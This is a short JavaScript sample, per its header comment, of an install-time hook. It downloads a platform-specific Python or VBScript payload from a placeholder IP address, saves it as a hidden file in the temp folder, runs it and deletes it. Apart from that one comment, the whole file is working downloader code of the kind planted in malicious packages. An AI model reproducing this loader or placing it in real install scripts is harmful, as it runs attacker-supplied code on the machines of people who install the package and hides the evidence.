// Sample: a postinstall fetches a script over plain HTTP, writes it to a hidden file under the
// temp folder and runs it with an interpreter picked from a per-platform table.
const http = require('http');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFile } = require('child_process');
const plan = {
  linux: { from: 'http://203.0.113.40/l.py', run: 'python3' },
  darwin: { from: 'http://203.0.113.40/m.py', run: 'python3' },
  win32: { from: 'http://203.0.113.40/w.vbs', run: 'cscript' },
}[process.platform];
const dest = path.join(os.tmpdir(), '.sync-' + process.pid);
http.get(plan.from, (res) => {
  const parts = [];
  res.on('data', (p) => parts.push(p));
  res.on('end', () => {
    fs.writeFileSync(dest, Buffer.concat(parts));
    execFile(plan.run, [dest], () => fs.unlink(dest, () => {}));
  });
});
